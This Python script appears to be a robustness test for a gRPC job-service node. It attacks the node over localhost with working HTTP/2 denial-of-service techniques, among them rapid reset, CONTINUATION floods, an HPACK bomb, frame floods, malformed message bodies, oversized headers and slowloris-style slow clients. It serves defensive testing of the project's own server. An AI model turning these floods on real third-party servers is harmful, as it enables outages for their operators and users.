"""Attacks a node as a hostile client would, and prints the results as one JSON object.

    python abuse.py CASE PORT CERTS-DIRECTORY [ARGUMENT...]

A case reports how each connection or call ended; the test that runs it checks the node meanwhile and afterwards.
"""
import json
import socket
import ssl
import struct
import sys
import time

import h2
from h2 import Closed, Connection, frame, literal, message

LIST, RUN, LOGS = (f"/joblet.JobService/{name}" for name in ("ListJobs", "RunJob", "GetJobLogs"))
port, certs = int(sys.argv[2]), sys.argv[3]
context = h2.tls(certs)


def connect(settings=b""):
    return Connection(port, context, settings)


def verdict(connection, do):
    """Runs `do` on the connection. Returns "closed" and the code of the node's GOAWAY, the status of an honest call that
    follows, or "silence" when the node has stopped reading from us."""
    try:
        do(connection)
        return connection.answers()
    except TimeoutError:
        return "silence"
    except Closed:
        return f"closed {connection.goaway[0] if connection.goaway else ''}".strip()


def repeat(octets, times):
    """Sends the same bytes again and again, a hundred copies at a time."""
    return lambda c: [c.send(octets * 100) for _ in range(times // 100)]


def rapid_reset(c):
    """CVE-2023-44487: streams that are reset as soon as they are open."""
    for _ in range(100):
        out = b""
        for _ in range(50):
            stream = c.stream()
            out += frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(LIST))
            out += frame(h2.RST_STREAM, 0, stream, struct.pack(">I", 8))
        c.send(out)


def continuation(fill):
    """CVE-2024-27316 and similar ones: a header block that never ends."""

    def do(c):
        c.send(frame(h2.HEADERS, 0, c.stream(), h2.call_headers(LIST)))
        repeat(frame(h2.CONTINUATION, 0, c.next - 2, fill), 2000)(c)
        c.send(frame(h2.CONTINUATION, h2.END_HEADERS, c.next - 2))

    return do


def hpack_bomb(c):
    """One large header enters the table once and a call thousands of times, with one byte each (CVE-2016-1544)."""
    c.send(frame(h2.HEADERS, h2.END_HEADERS, c.stream(), h2.call_headers(LIST) + literal("bomb", "x" * 3500, True)))
    for _ in range(100):
        c.send(frame(h2.HEADERS, h2.END_HEADERS, c.stream(), h2.call_headers(LIST) + b"\xbe" * 15000))


def too_many_streams(c):
    for _ in range(300):
        c.send(frame(h2.HEADERS, h2.END_HEADERS, c.stream(), h2.call_headers(LIST)))


def endless_streams(c):
    """More and more calls by a client that acknowledges neither the limit nor an answer. Sending fails in the end."""
    while c.next < 40_000:
        c.send(b"".join(frame(h2.HEADERS, h2.END_HEADERS, c.stream(), h2.call_headers(LIST)) for _ in range(50)))


def empty_data(c):
    stream = c.call(LIST, b"", end=False)
    repeat(frame(h2.DATA, 0, stream), 20_000)(c)


def floods():
    """Actions of HTTP/2 that cost a client nothing."""
    cases = {
        "rapid reset": rapid_reset,
        "continuation": continuation(b""),
        "full continuation": continuation(literal("x", "y" * 8000)),
        "settings": repeat(frame(h2.SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * 10), 20_000),
        "ping": repeat(frame(h2.PING, 0, 0, b"flooding"), 20_000),
        "window update": repeat(frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), 20_000),
        "priority": repeat(frame(h2.PRIORITY, 0, 1, b"\0\0\0\0\x10"), 20_000),
        "unknown frame": repeat(frame(0x99, 0, 0, b"?"), 20_000),
        "empty data": empty_data,
        "hpack bomb": hpack_bomb,
        "too many streams": too_many_streams,
        "endless streams": endless_streams,
        "window overflow": lambda c: c.send(frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 4),
        "frame too large": lambda c: c.send(frame(0x99, 0, 0, b"?" * 20_000)),
        "no http2": lambda c: c.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" * 10),
    }
    return {name: verdict(connect(), do) for name, do in cases.items()}


def again(ask):
    """Repeats the call until the answer is 0: the node frees the quota that a client has used up in the background."""
    until = time.monotonic() + h2.PATIENCE
    while (found := ask()) != "0" and time.monotonic() < until:
        pass
    return found


def bodies():
    """Messages that differ from their frame. All are sent on one connection, which survives."""
    c = connect()
    gzip = [("grpc-encoding", "gzip")]
    found = {
        "no message": c.outcome(c.call(RUN, b"")),
        "half a prefix": c.outcome(c.call(RUN, b"\0\0")),
        "half a message": c.outcome(c.call(RUN, message(b"x", claimed=10))),
        "unknown flag": c.outcome(c.call(RUN, message(b"\xff", compressed=7))),
        "compressed without a method": c.outcome(c.call(RUN, message(b"\xff", compressed=1))),
        "compressed": c.outcome(c.call(RUN, message(b"\xff", compressed=1), gzip)),
        "4 GiB claimed, nothing sent": c.outcome(c.call(RUN, message(b"x", claimed=0xFFFFFFFF))),
    }
    limit = int(sys.argv[4])
    stream = c.call(RUN, message(b"", claimed=limit + 1), end=False)
    found["too large"] = c.upload(stream, bytes(limit + 1)) or c.outcome(stream)
    found["afterwards"] = c.answers()
    # This message claims 4 GiB and delivers them: no other call may suffer from it.
    neighbour = connect()
    followed = neighbour.call(LOGS, message(b"\x0a\x24" + sys.argv[5].encode()))
    stream = c.call(RUN, message(b"", claimed=0xFFFFFFFF), end=False)
    found["4 GiB claimed, much sent"] = c.upload(stream, bytes(int(sys.argv[6])))
    found["on the same connection"] = again(c.answers)
    found["on another connection"] = neighbour.answers()
    found["on a new connection"] = connect().answers()
    neighbour.send(frame(h2.PING, 0, 0, b"anything"))
    found["the follower"] = "still there" if followed_on(neighbour, followed) else "cut off"
    return found


def followed_on(c, stream):
    """Whether this stream has not ended when a ping comes back."""
    while True:
        kind, flags, of, _ = c.receive()
        if of == stream and kind in (h2.RST_STREAM, h2.HEADERS) and flags & h2.END_STREAM:
            return False
        if kind == h2.PING and flags & h2.ACK:
            return True


def headers():
    """Excessive metadata. All of it is sent on one connection, which survives."""
    c = connect()
    found = {"afterwards at first": c.answers()}
    many = [(f"x-{i}", "y") for i in range(10_000)]
    for name, extra in {"1 MiB": [("x", "y" * (1 << 20))], "10000 headers": many}.items():
        stream, block = c.stream(), h2.call_headers(LIST, extra)
        parts = [block[at : at + 16384] for at in range(0, len(block), 16384)]
        c.send(frame(h2.HEADERS, 0, stream, parts[0]))
        for part in parts[1:-1]:
            c.send(frame(h2.CONTINUATION, 0, stream, part))
        c.send(frame(h2.CONTINUATION, h2.END_HEADERS, stream, parts[-1]))
        c.send(frame(h2.DATA, h2.END_STREAM, stream, message(b"")))
        found[name] = c.outcome(stream).split()[0]
    for timeout in ("99999999H", "999999999999999999999H", "-5S", "S", "5", "5x", "", "0n", "1n"):
        found[f"timeout {timeout}"] = c.outcome(c.call(LIST, extra=[("grpc-timeout", timeout)]))
    for name, extra in {"NUL": [("x", "a\0b")], "upper case": [("X-UP", "y")], "no name": [("", "y")]}.items():
        found[name] = verdict(connect(), lambda c, extra=extra: c.outcome(c.call(LIST, extra=extra)))
    found["afterwards"] = c.answers()
    return found


def loris():
    """Slow clients. Returns the seconds after which the node disconnected each."""
    found = {}

    def until_end(name, octets, wrapped=False):
        raw = socket.create_connection(("127.0.0.1", port), timeout=h2.PATIENCE)
        start = time.monotonic()
        raw = context.wrap_socket(raw, server_hostname="localhost") if wrapped else raw
        raw.settimeout(0.5)
        try:
            # A byte now and then, as long as the node takes it.
            for octet in octets:
                raw.sendall(bytes([octet]))
                try:
                    if not raw.recv(65536):
                        break
                except TimeoutError:
                    pass
        except (OSError, ssl.SSLError):
            pass
        found[name] = time.monotonic() - start

    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)
    until_end("a handshake in drops", hello)
    until_end("a preface in drops", h2.PREFACE + bytes(100), wrapped=True)
    raw = socket.create_connection(("127.0.0.1", port), timeout=h2.PATIENCE)
    raw.sendall(hello[:50])
    start = time.monotonic()
    raw.recv(1)
    found["half a handshake"] = time.monotonic() - start
    return found


def stall():
    """More calls than a client may have, opened and never continued. Others are served, and in the end this client is too."""
    viewer = Connection(port, h2.tls(certs, "viewer-client"))
    crowd = [connect() for _ in range(4)]
    for c in crowd:
        for _ in range(200):
            c.send(frame(h2.HEADERS, h2.END_HEADERS, c.stream(), h2.call_headers(LIST)))
    # The node counts the sent calls later.
    bound = time.monotonic() + h2.PATIENCE
    while (refused := connect().answers()) == "0" and time.monotonic() < bound:
        pass
    found = {"itself": refused, "others": viewer.answers()}
    for c in crowd:
        c.socket.close()
    bound = time.monotonic() + h2.PATIENCE
    while (last := connect().answers()) != "0" and time.monotonic() < bound:
        pass
    return {**found, "itself afterwards": last}


def crowd():
    """Useless connections of every kind, all at once; then an honest one."""
    sockets = []
    for octets in (b"", b"GET / HTTP/1.1\r\n\r\n", b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n", b"\x16\x03\x01", bytes(2000)):
        for _ in range(200):
            raw = socket.create_connection(("127.0.0.1", port), timeout=h2.PATIENCE)
            raw.sendall(octets)
            sockets.append(raw)
    # Every second connection ends with a reset in the middle of its handshake.
    for raw in sockets[::2]:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        raw.close()
    idle = [connect() for _ in range(100)]
    return {"beside them": connect().answers(), "an idle one": idle[50].answers()}


def readers():
    """Readers of one job's output that read nothing until our standard input ends. Prints a line when all are connected."""
    count, job = int(sys.argv[4]), sys.argv[5]
    small = struct.pack(">HI", h2.INITIAL_WINDOW_SIZE, 1000)
    held = []
    for at in range(count):
        if at % 200 == 0:
            held.append(connect(small))
        held[-1].call(LOGS, message(b"\x0a\x24" + job.encode()))
    print("ready", flush=True)
    sys.stdin.read()
    return {"connections": len(held)}


if __name__ == "__main__":
    cases = {case.__name__: case for case in (floods, bodies, headers, loris, stall, crowd, readers)}
    print(json.dumps(cases[sys.argv[1]]()))
